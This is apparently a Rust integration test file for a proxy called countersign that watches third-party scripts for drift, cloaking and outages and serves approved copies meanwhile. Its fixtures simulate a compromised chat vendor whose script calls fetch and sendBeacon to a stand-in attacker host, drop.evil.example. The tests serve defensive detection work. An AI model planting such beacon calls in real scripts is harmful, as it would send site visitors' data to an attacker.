//! Looking again and again beside the proxy: what is told, when, and what pages get meanwhile.

use std::fs;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use countersign::analysis;
use countersign::app::{AppConfig, DriftConfig};
use countersign::drift::Allowed;
use countersign::inventory::approval::{Request, approve_bytes};
use countersign::inventory::{Form, ScriptId};
use countersign::store::{DriftRow, EventKind};

use super::shop::{CHAT, script, send};
use crate::browser::eventually;
use crate::policy::vendor::Vendor;
use crate::support::{Client, Enforced, Upstream, enforce_with, get, get_with, page};

pub(crate) const NEW: &str = "window.chat={open:function(){fetch('https://drop.evil.example/')}};";

/// What a vendor serves, changeable.
#[derive(Clone)]
pub(crate) struct Served(Arc<Mutex<&'static str>>);

impl Served {
    pub(crate) fn new(body: &'static str) -> Self {
        Self(Arc::new(Mutex::new(body)))
    }

    pub(crate) fn set(&self, body: &'static str) {
        *self.0.lock().unwrap() = body;
    }

    fn body(&self) -> &'static str {
        *self.0.lock().unwrap()
    }

    /// Served to everybody; empty stands for "not found".
    pub(crate) fn vendor(&self) -> Vendor {
        let served = self.clone();
        Vendor::serving(move |_, stream| match served.body() {
            "" => send(stream, "404 Not Found", ""),
            body => script(stream, body),
        })
    }
}

/// A proxy that looks at `chat` of this vendor all the time, with [`CHAT`] approved.
fn watching(upstream: &Upstream, vendor: &Vendor, more: &str) -> Enforced {
    watching_with(upstream, vendor, more, |_| {})
}

/// The same, with other settings.
pub(crate) fn watching_with(
    upstream: &Upstream,
    vendor: &Vendor,
    more: &str,
    adjust: impl FnOnce(&mut AppConfig),
) -> Enforced {
    let chat = format!(
        "[[script]]\nid = \"chat\"\nurl = \"{}\"\ntier = \"pin\"\nwhy = \"Chat\"\n{more}",
        vendor.url("/chat.js")
    );
    enforce_with(upstream.address, &chat, |config| {
        let folder = config.policies.clone().unwrap();
        approve(&folder, CHAT);
        config.drift = Some(DriftConfig {
            interval: Duration::from_millis(20),
            blind_after: Duration::from_hours(1),
            folder: Some(folder.join("review")),
            allowed: Allowed { private: true, through_proxy: false },
            patience: Duration::from_secs(20),
            read: Arc::new(analysis::read),
        });
        adjust(config);
    })
}

fn approve(folder: &std::path::Path, code: &str) {
    approve_bytes(&Request {
        folder,
        site: "shop",
        script: &ScriptId::new("chat").unwrap(),
        form: Form::External,
        bytes: code.as_bytes(),
        by: "alice@shop.test",
        because: "a test",
        at: "2026-11-23T21:04:05Z".parse().unwrap(),
        retire_earlier: false,
    })
    .unwrap();
}

pub(crate) async fn stands(proxy: &Enforced, drift: &str) -> DriftRow {
    let row = || proxy.running.store.drifts().into_iter().find(|row| row.drift == drift);
    eventually(&format!("chat to be {drift}"), async || row()).await
}

/// Waits until this many more looks were made.
pub(crate) async fn looks(vendor: &Vendor, count: usize) {
    let wanted = vendor.requests().len() + count * 6;
    eventually("more looks", async || (vendor.requests().len() >= wanted).then_some(())).await;
}

pub(crate) fn told(proxy: &Enforced, kind: EventKind) -> Vec<String> {
    let events = proxy.running.store.events(1000).into_iter();
    events.filter(|event| event.kind == kind).map(|event| event.message).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_change_is_told_once_and_again_when_all_is_as_approved() {
    let upstream = Upstream::answering(page("")).await;
    let served = Served::new(CHAT);
    let vendor = served.vendor();
    let proxy = watching(&upstream, &vendor, "");
    stands(&proxy, "same").await;
    assert_eq!(told(&proxy, EventKind::DriftFound), [""; 0]);

    served.set(NEW);
    let row = stands(&proxy, "changed").await;
    assert_eq!((row.severity.as_ref(), row.mirrored), ("medium", false), "{row:?}");
    looks(&vendor, 3).await;
    let found = told(&proxy, EventKind::DriftFound);
    assert_eq!(found.len(), 1, "{found:#?}");
    assert!(found[0].contains("shop/chat: ") && found[0].contains("https://drop.evil.example"), "{found:#?}");
    let kept = row.what_to_do.unwrap();
    let kept = kept.split(" --file ").nth(1).unwrap().split(' ').next().unwrap();
    assert_eq!(fs::read_to_string(kept).unwrap(), NEW, "kept for review");

    served.set("");
    stands(&proxy, "gone").await;
    served.set(CHAT);
    let row = stands(&proxy, "same").await;
    assert_eq!(told(&proxy, EventKind::DriftFound).len(), 2);
    assert_eq!(told(&proxy, EventKind::DriftEnded).len(), 1);
    let history: Vec<&str> = row.history.iter().map(|change| change.drift.as_ref()).collect();
    assert_eq!(history, ["same", "gone", "changed", "same"]);
    let metrics = proxy.running.metrics.encode();
    for line in
        ["countersign_drift_scripts{finding=\"same\"} 1", "countersign_drift_scripts{finding=\"gone\"} 0"]
    {
        assert!(metrics.contains(line), "{line}: {metrics}");
    }
    assert!(metrics.contains("countersign_drift_looks_total{finding=\"changed\"}"), "{metrics}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_vendor_that_confirms_what_it_no_longer_serves_is_found_out() {
    let upstream = Upstream::answering(page("")).await;
    let served = Served::new(CHAT);
    let lying = served.clone();
    let vendor = Vendor::serving(move |head, stream| {
        let head = head.to_lowercase();
        if head.contains("if-none-match: \"always\"") {
            send(stream, "304 Not Modified\r\netag: \"always\"", "");
        } else {
            let head = "200 OK\r\netag: \"always\"\r\naccess-control-allow-origin: *\r\ncontent-type: text/javascript";
            send(stream, head, lying.body());
        }
    });
    let proxy = watching(&upstream, &vendor, "");
    stands(&proxy, "same").await;
    looks(&vendor, 2).await;
    let asked =
        |text: &str| vendor.requests().iter().filter(|head| head.to_lowercase().contains(text)).count();
    assert!(asked("if-none-match") > 0, "what is known is not fetched each time");
    served.set(NEW);
    stands(&proxy, "changed").await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_vendor_that_falls_silent_is_a_finding() {
    let upstream = Upstream::answering(page("")).await;
    let served = Served::new(CHAT);
    let body = served.clone();
    let vendor = Vendor::serving(move |_, stream| {
        if !body.body().is_empty() {
            script(stream, body.body());
        }
    });
    let proxy = watching(&upstream, &vendor, "on-drift = \"mirror\"\n");
    stands(&proxy, "same").await;
    served.set("");
    let row = stands(&proxy, "unreachable").await;
    assert!(!row.mirrored, "whose network it is that fails isn't known");
    served.set(CHAT);
    stands(&proxy, "same").await;
    assert_eq!(told(&proxy, EventKind::DriftEnded).len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn while_a_vendor_serves_other_bytes_pages_get_the_approved_ones_from_us() {
    let served = Served::new(CHAT);
    let vendor = served.vendor();
    let url = vendor.url("/chat.js");
    let tag = format!("<script src='{url}'></script>");
    let upstream = Upstream::answering(crate::support::answer(
        "Content-Type: text/html; charset=utf-8\r\nETag: \"page\"",
        tag,
    ))
    .await;
    let proxy = watching(&upstream, &vendor, "on-drift = \"mirror\"\n");
    stands(&proxy, "same").await;
    let mut client = Client::connect(proxy.address()).await;
    let pinned = client.ask(get("/")).await;
    assert!(pinned.text().contains(&url) && !pinned.text().contains("/_countersign/s/"), "{}", pinned.text());

    served.set(NEW);
    assert!(stands(&proxy, "changed").await.mirrored);
    let mirrored = client.ask(get("/")).await;
    let text = mirrored.text();
    assert!(!text.contains(&url), "{text}");
    let (_, path) = text.split_once("src=\"/_countersign/s/").unwrap();
    let path = format!("/_countersign/s/{}", path.split('"').next().unwrap());
    let bytes = Client::connect(proxy.address()).await.ask(get(&path)).await;
    assert_eq!((bytes.status, bytes.text().as_str()), (200, CHAT), "never the new bytes");
    // A page from before is another page: it must not be confirmed under this one's head.
    let etag = |response: &crate::support::Response| response.header("etag").unwrap();
    assert_ne!(etag(&pinned), etag(&mirrored));
    client.ask(get_with("/", &format!("If-None-Match: {}\r\n", etag(&pinned)))).await;
    assert!(!upstream.last_request().contains("if-none-match"), "{}", upstream.last_request());
    client.ask(get_with("/", &format!("If-None-Match: {}\r\n", etag(&mirrored)))).await;
    assert!(upstream.last_request().contains("if-none-match: \"page\""), "{}", upstream.last_request());

    // Other policies come into force: what is known of vendors stays known.
    let policy = proxy.folder.path().join("shop.toml");
    let before = proxy.running.published.load().generation.number;
    fs::write(&policy, fs::read_to_string(&policy).unwrap() + "# a comment\n").unwrap();
    let published = &proxy.running.published;
    eventually("another generation", async || (published.load().generation.number > before).then_some(()))
        .await;
    assert!(client.ask(get("/")).await.text().contains(&path), "from its first request on");

    served.set(CHAT);
    stands(&proxy, "same").await;
    assert!(client.ask(get("/")).await.text().contains(&url), "back at the vendor");
    served.set("");
    assert!(stands(&proxy, "gone").await.mirrored);
    assert!(client.ask(get("/")).await.text().contains(&path));

    // The new bytes are approved: they come from the vendor.
    served.set(NEW);
    stands(&proxy, "changed").await;
    approve(proxy.folder.path(), NEW);
    stands(&proxy, "same").await;
    assert!(client.ask(get("/")).await.text().contains(&url));
}

#[tokio::test(flavor = "multi_thread")]
async fn only_where_the_policy_says_so_pages_get_a_mirror() {
    let served = Served::new(CHAT);
    let vendor = served.vendor();
    let url = vendor.url("/chat.js");
    let upstream = Upstream::answering(page(format!("<script src='{url}'></script>"))).await;
    let proxy = watching(&upstream, &vendor, "");
    served.set(NEW);
    assert!(!stands(&proxy, "changed").await.mirrored);
    let page = Client::connect(proxy.address()).await.ask(get("/")).await;
    assert!(page.text().contains(&url) && page.text().contains("integrity="), "{}", page.text());
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_cloaking_vendor_newly_reaches_is_told_though_its_cloaking_was() {
    let upstream = Upstream::answering(page("")).await;
    let phones = Served::new(CHAT);
    let (served, stamps) = (phones.clone(), std::sync::atomic::AtomicUsize::new(0));
    let vendor = Vendor::serving(move |head, stream| {
        // A phone gets other bytes each time, which by themselves say nothing new.
        let stamp = stamps.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
        let phone = head.to_lowercase().contains("iphone");
        let body = if phone { format!("{}//{stamp}", served.body()) } else { CHAT.to_owned() };
        script(stream, &body);
    });
    let proxy = watching(&upstream, &vendor, "");
    stands(&proxy, "cloaked").await;
    looks(&vendor, 3).await;
    let found = told(&proxy, EventKind::DriftFound);
    assert_eq!(found.len(), 1, "{found:#?}");
    phones.set("window.chat={open:function(){navigator.sendBeacon('https://drop.evil.example/')}};");
    let told = eventually("what phones are served is told", async || {
        let found = told(&proxy, EventKind::DriftFound);
        found.into_iter().find(|message| message.contains("drop.evil.example"))
    })
    .await;
    assert!(told.contains("cloaked"), "{told}");
}
